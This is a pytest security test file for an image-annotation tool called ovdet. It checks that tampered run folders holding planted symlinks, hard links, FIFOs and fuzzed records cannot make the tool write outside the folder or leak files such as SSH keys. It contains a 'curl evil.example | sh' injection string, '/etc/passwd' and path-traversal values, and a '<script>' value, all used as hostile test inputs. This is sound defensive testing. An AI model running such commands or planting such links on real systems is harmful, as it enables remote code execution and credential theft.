"""Hostile run folders: report, relabel and a resumed annotate never write outside the folder or leak outside files.

A run folder received from someone else may hold planted links, hard links, FIFOs and edited records; none may make
ovdet write outside the folder, or copy or link a file from outside the run's source folder into an output.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import stat
import time
from pathlib import Path

import pytest

from ovdet.cli import main
from ovdet.errors import DatasetError, OVDetError
from ovdet.jobs.relabel import relabel_run
from ovdet.report import write_report
from ovdet.runs.lock import LOCK_NAME, lock_output
from ovdet.runs.journal import repair_journal

SAMPLES = Path(__file__).resolve().parents[1] / "samples" / "shapes"
CLASSES = "red circle,blue square"
FORMATS = "coco,yolo,voc,jsonl"
SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----\nnot really\n"


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    """ROOT/src (two sample images and a broken one) and ROOT/run, a real `ovdet annotate` run over it (demo model)."""
    root = tmp_path_factory.mktemp("made")
    src = root / "src"
    src.mkdir()
    for image in sorted(SAMPLES.glob("*.jpg"))[:2]:
        shutil.copy(image, src / image.name)
    (src / "broken.jpg").write_bytes(b"not a jpeg")
    with pytest.MonkeyPatch.context() as mp:  # module scope: conftest's per-test OVDET_HOME is not set up yet
        mp.setenv("OVDET_HOME", str(root / "home"))
        mp.setenv("OVDET_OFFLINE", "1")
        mp.setenv("OVDET_BACKEND", "torch")
        assert main(["annotate", str(src), "--model", "demo", "--classes", CLASSES, "--out", str(root / "run"),
                     "--format", FORMATS, "--device", "cpu", "--quiet"]) == 0
    shutil.rmtree(root / "home")
    assert [json.loads(line)["image"] for line in (root / "run" / "errors.jsonl").read_text().splitlines()] == [
        "broken.jpg"]
    return root


def _rewrite(path: Path, old: str, new: str) -> None:
    path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")


@pytest.fixture
def world(made, tmp_path) -> Path:
    """tmp/src and tmp/run (a copy of the made run, its paths moved along), and the victim's files in tmp/home."""
    for name in ("src", "run"):
        shutil.copytree(made / name, tmp_path / name, symlinks=True)
    for name in ("run.json", "predictions.jsonl", "errors.jsonl"):
        _rewrite(tmp_path / "run" / name, str(made), str(tmp_path))
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA me@laptop\n")
    (home / ".ssh" / "id_rsa").write_bytes(SECRET)
    (home / "pictures").mkdir()
    shutil.copy(SAMPLES / "shape_3.jpg", home / "pictures" / "private.jpg")
    return tmp_path


def snapshot(root: Path, skip: tuple[str, ...] = ("run", "out")) -> dict[str, tuple]:
    """Every entry under `root` (links not followed) but the top-level `skip` ones: kind, mode, content hash."""
    seen: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(root):
        if Path(folder) == root:
            dirs[:] = [d for d in dirs if d not in skip]
            files = [f for f in files if f not in skip]
        for name in dirs + files:
            path = Path(folder, name)
            st = os.lstat(path)
            rel = path.relative_to(root).as_posix()
            if stat.S_ISLNK(st.st_mode):
                seen[rel] = ("link", os.readlink(path))
            elif stat.S_ISREG(st.st_mode):
                seen[rel] = ("file", st.st_mode, hashlib.sha256(path.read_bytes()).hexdigest())
            else:
                seen[rel] = ("other", st.st_mode)
    return seen


def escapes(folder: Path, allowed: Path) -> list[str]:
    """Entries under `folder` that are links leading outside `allowed`, or files holding the secret."""
    found = []
    for path in folder.rglob("*"):
        if path.is_symlink() and not Path(os.path.realpath(path)).is_relative_to(os.path.realpath(allowed)):
            found.append(f"{path} -> {os.path.realpath(path)}")
        elif path.is_file() and SECRET in path.read_bytes():
            found.append(f"{path} holds the secret")
    return found


def _annotate_again(world: Path, classes: str = CLASSES) -> int:
    return main(["annotate", str(world / "src"), "--model", "demo", "--classes", classes, "--out",
                 str(world / "run"), "--format", FORMATS, "--device", "cpu", "--quiet"])


# ----------------------------------------------------------------------------- one test per attack


@pytest.mark.parametrize("kind", ["annotate", "annotate\n\ncurl evil.example | sh\n"])
def test_report_never_writes_through_a_planted_temporary_file(world, capsys, kind):
    """The old temporary name was .report.html.<pid>.ovdet-tmp and open() followed a link planted there."""
    run = world / "run"
    manifest = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps({**manifest, "kind": kind}))
    for pid in (os.getpid(), *range(os.getpid() - 3, os.getpid() + 4)):
        link = run / f".report.html.{pid}.ovdet-tmp"
        if not link.is_symlink():
            link.symlink_to(world / "home" / ".bashrc")
    before = snapshot(world)
    code = main(["report", str(run), "--quiet", "--no-thumbs"])
    assert snapshot(world) == before
    if kind == "annotate":  # neutralised: the report is written beside the links, as a file of its own
        assert code == 0 and stat.S_ISREG(os.lstat(run / "report.html").st_mode)
    else:  # refused: run.json names no kind of run ovdet writes
        assert code == 2 and "kind" in capsys.readouterr().err and not (run / "report.html").exists()


@pytest.mark.parametrize("plant", ["symlink", "hardlink", "fifo"])
def test_lock_file_that_is_not_a_plain_file_of_its_own_is_refused(world, capsys, plant):
    """The old lock opened .ovdet-lock with O_RDWR|O_CREAT through a link and truncated it, settings mismatch or not."""
    run, victim = world / "run", world / "home" / ".ssh" / "authorized_keys"
    {"symlink": lambda p: p.symlink_to(victim), "hardlink": lambda p: os.link(victim, p),
     "fifo": os.mkfifo}[plant](run / LOCK_NAME)
    before = snapshot(world)
    assert main(["report", str(run), "--quiet"]) == 2
    assert "refusing" in capsys.readouterr().err
    assert _annotate_again(world, classes="cat,dog") == 2  # other settings: refused before they are compared
    err = capsys.readouterr().err
    assert "refusing" in err and LOCK_NAME in err
    with pytest.raises(DatasetError, match="not a plain file"):
        with lock_output(run):
            pass
    assert snapshot(world) == before and victim.read_text() == "ssh-ed25519 AAAA me@laptop\n"
    assert stat.S_ISLNK(os.lstat(run / LOCK_NAME).st_mode) == (plant == "symlink")  # left where it was


def test_symlinked_thumbs_folder_is_refused(world, capsys):
    run = world / "run"
    (run / "thumbs").symlink_to(world / "home" / "pictures", target_is_directory=True)
    before = snapshot(world)
    assert main(["report", str(run), "--quiet"]) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert snapshot(world) == before and not (run / "report.html").exists()


@pytest.mark.parametrize("link", ["voc", "yolo/labels"])
def test_symlinked_folder_anywhere_below_the_output_is_refused(world, capsys, link):
    """A resumed annotate run with one image left to do: voc/ (not only voc/Annotations) must not be followed."""
    run = world / "run"
    lines = (run / "predictions.jsonl").read_text().splitlines(keepends=True)
    (run / "predictions.jsonl").write_text("".join(lines[:-1]))
    elsewhere = world / "home" / "elsewhere"
    shutil.move(run / link, elsewhere)
    (run / link).symlink_to(elsewhere, target_is_directory=True)
    before = snapshot(world)
    assert _annotate_again(world) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert snapshot(world) == before


def test_journal_repair_refuses_a_symlinked_journal_before_cutting(world, capsys):
    run, victim = world / "run", world / "home" / "notes.jsonl"
    victim.write_bytes((run / "predictions.jsonl").read_bytes() + b'{"torn": ')  # a repair would cut this line
    (run / "predictions.jsonl").unlink()
    (run / "predictions.jsonl").symlink_to(victim)
    before = snapshot(world)
    with pytest.raises(DatasetError, match="symbolic link"):
        repair_journal(run / "predictions.jsonl")
    assert _annotate_again(world) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert snapshot(world) == before


def test_relabel_refuses_a_symlinked_errors_file(world, capsys):
    run = world / "run"
    (run / "errors.jsonl").unlink()
    (run / "errors.jsonl").symlink_to(world / "home" / ".ssh" / "id_rsa")
    before = snapshot(world)
    assert main(["relabel", str(run), "--out", str(world / "out"), "--quiet"]) == 2
    assert "errors.jsonl" in capsys.readouterr().err
    assert snapshot(world) == before and escapes(world / "out", world / "src") == []
    assert main(["report", str(run), "--quiet", "--no-thumbs"]) == 2  # nor is it shown in a report


@pytest.mark.parametrize("target", ["home/.ssh/id_rsa", "home/pictures/private.jpg", "run/evil.jpg"])
def test_relabel_links_and_report_thumbnails_only_source_images(world, target):
    """A journal `path` outside the run's source folder (or a link in the run folder) is an error for that image."""
    run = world / "run"
    if target == "run/evil.jpg":
        (run / "evil.jpg").symlink_to(world / "home" / ".ssh" / "id_rsa")
    records = [json.loads(line) for line in (run / "predictions.jsonl").read_text().splitlines()]
    records[0]["path"] = str(world / target)
    (run / "predictions.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    before = snapshot(world)
    summary = relabel_run(run, world / "out", formats="yolo,voc,coco", quiet=True)
    assert summary.images == 1  # neutralised: the other image is relabelled, this one recorded as an error
    errors = [json.loads(line) for line in (world / "out" / "errors.jsonl").read_text().splitlines()]
    assert [e["image"] for e in errors] == ["broken.jpg", records[0]["image"]]
    assert "source folder" in errors[1]["reason"]
    assert escapes(world / "out", world / "src") == []
    assert len(list((world / "out" / "yolo" / "images").iterdir())) == 1

    write_report(run, quiet=True)
    assert sorted(p.stem for p in (run / "thumbs").iterdir()) == [records[1]["key"]]
    assert "source folder" in (run / "report.html").read_text()
    assert snapshot(world) == before


# ----------------------------------------------------------------------------- fuzz


_FUZZED = ("run.json", "predictions.jsonl", "errors.jsonl", "coco/annotations.json")


def _mutate(data: bytes, rng: random.Random) -> bytes:
    """One to four byte-level edits: flip, set, insert, delete, duplicate or cut a span."""
    buf = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        at = rng.randrange(len(buf) + 1)
        op = rng.choice(("flip", "set", "insert", "delete", "dup", "cut"))
        if op == "flip" and at < len(buf):
            buf[at] ^= 1 << rng.randrange(8)
        elif op == "set" and at < len(buf):
            buf[at] = rng.choice(b'{}[]",:\n\\0-9.eE/ \x00\xff') if rng.random() < 0.7 else rng.randrange(256)
        elif op == "insert":
            buf[at:at] = rng.choice([b'"', b"\n", b"-1", b"1e999", b"NaN", b"null", b"[]", b"{}", b"../", b"\xc3",
                                     b'"kind":"eval",', b"99999999999999999999"])
        elif op == "delete":
            del buf[at:at + rng.randint(1, 8)]
        elif op == "dup":
            buf[at:at] = buf[at:at + rng.randint(1, 40)]
        else:
            del buf[at:]
    return bytes(buf)


_HOSTILE_VALUES = [-1, 0, 1e308, 2**64, "", "../../x", "/etc/passwd", "a\u0000b", "\ud800", "x" * 300, None, True,
                   [], {}, [1, 2], {"a": 1}, "annotate\n<script>", float("nan"), float("inf"), 0.5, "eval"]


def _mutate_value(doc, rng: random.Random):
    """`doc` (parsed JSON) with one value somewhere inside it replaced by a hostile one, or one key removed."""
    if not isinstance(doc, (dict, list)) or not doc or rng.random() < 0.25:
        return rng.choice(_HOSTILE_VALUES)
    at = rng.choice(list(doc)) if isinstance(doc, dict) else rng.randrange(len(doc))
    if isinstance(doc, dict) and rng.random() < 0.15:
        del doc[at]
    else:
        doc[at] = _mutate_value(doc[at], rng)
    return doc


def _mutate_json(data: bytes, rng: random.Random) -> bytes:
    """One line (or the whole file) parsed, one value in it made hostile, written back: valid JSON, wrong content."""
    lines = data.split(b"\n")
    i = rng.randrange(len(lines)) if b"\n{" in data and not data.startswith(b"{\n") else None
    try:
        doc = json.loads(lines[i] if i is not None else data)
    except ValueError:
        return _mutate(data, rng)
    text = json.dumps(_mutate_value(doc, rng)).encode()
    if i is None:
        return text
    lines[i] = text
    return b"\n".join(lines)


def test_fuzzed_run_folders_end_in_success_or_an_ovdet_error(world, tmp_path):
    """Byte-level (and some value-level) mutations of a real run folder's files: report and relabel each end in
    success or an OVDetError, and write nothing outside the run folder and the relabel output."""
    pristine = tmp_path / "pristine"
    shutil.copytree(world / "run", pristine, symlinks=True)
    write_report(pristine, quiet=True)  # thumbnails made once; each mutant reuses them
    shutil.rmtree(world / "run")
    rng = random.Random(18)
    outcomes = {"ok": 0, "refused": 0}
    before = snapshot(world, skip=("run", "out", "pristine"))
    started = time.perf_counter()
    for i in range(240):
        run = world / "run"
        shutil.copytree(pristine, run, symlinks=True)
        for name in rng.sample(_FUZZED, rng.randint(1, 2)):
            mutate = _mutate_json if rng.random() < 0.4 else _mutate
            (run / name).write_bytes(mutate((run / name).read_bytes(), rng))
        shutil.rmtree(world / "out", ignore_errors=True)  # a relabel that failed half-way leaves no run.json
        for job in (lambda: write_report(run, thumbnails=i % 4 == 0, quiet=True),
                    lambda: relabel_run(run, world / "out", formats="yolo,voc,coco", quiet=True)):
            try:
                job()
                outcomes["ok"] += 1
            except OVDetError:
                outcomes["refused"] += 1
            # anything else (KeyError, TypeError, OverflowError, ...) fails the test with its traceback
        assert escapes(world / "out", world / "src") == [], i
        shutil.rmtree(run)
    assert snapshot(world, skip=("run", "out", "pristine")) == before
    assert outcomes["ok"] > 50 and outcomes["refused"] > 50, outcomes  # both paths were really exercised
    print(f"fuzz: {outcomes} in {time.perf_counter() - started:.1f} s")
